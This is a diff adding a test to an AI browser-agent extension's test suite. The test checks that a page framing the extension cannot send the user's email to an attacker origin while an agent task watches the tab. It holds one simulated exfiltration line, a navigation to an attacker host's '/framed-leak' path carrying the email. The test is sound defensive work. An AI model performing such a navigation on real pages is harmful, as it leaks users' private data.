@@ -183,3 +183,36 @@ it('after a load the guard stopped, the next page is read and acted on in our ow
     'undefined',
   );
 }, 60_000);
+
+it("a page framing our palette page does not hang the tab's loads while a task watches it", async () => {
+  // Chrome refuses every debugger command in a tab whose page holds another extension's frame (the palette page
+  // framed at its fixed address), so a load Fetch paused there could never be continued nor failed.
+  const o = ctxOf(h);
+  const notes = o.page(o.VICTIM, 'notes.html');
+  const framing = (origin: string) => `${o.page(origin, 'framed-palette.html')}?ext=${h.ext.extensionId}`;
+  await h.page.goto(notes, { waitUntil: 'load' });
+  await h.ext.inWorker(`globalThis.tabwright.sessions.reset(${h.tabId})`);
+  const gate = createGate();
+  h.llm.reset();
+  h.llm.script([
+    { tool: 'snapshot', args: {} },
+    { say: 'Done.', hold: gate },
+  ]);
+  await sendTask(h.ext, h.tabId, 'Tidy up my notes');
+  await gate.reached;
+  const tab = async () =>
+    (await h.ext.inWorker(`chrome.tabs.get(${h.tabId}).then((t) => t.status + ' ' + t.url)`)) as string;
+  // The page's own load with the user's email: refused, by leaving the page (the request cannot be failed).
+  await h.page.goto(framing(o.VICTIM), { waitUntil: 'load' });
+  await h.page.evaluate((u) => {
+    location.href = u;
+  }, `${o.ATTACKER}/framed-leak?e=${EMAIL}`);
+  await until('the tab to leave the page', async () => (await tab()) === 'complete about:blank');
+  // The user's own load from such a page: it goes (asked again by the browser once the page is left).
+  await h.page.goto(framing(o.ATTACKER), { waitUntil: 'load' });
+  await h.page.goto(notes, { waitUntil: 'load' }).catch(() => undefined); // the paused request itself is aborted
+  await until('the next page to load', async () => (await tab()) === `complete ${notes}`);
+  expect(canaryGot('/framed-leak')).toBe(false);
+  gate.release();
+  await until('the task to end', async () => (await sessionView(h.ext, h.tabId)).status !== 'running');
+}, 60_000);
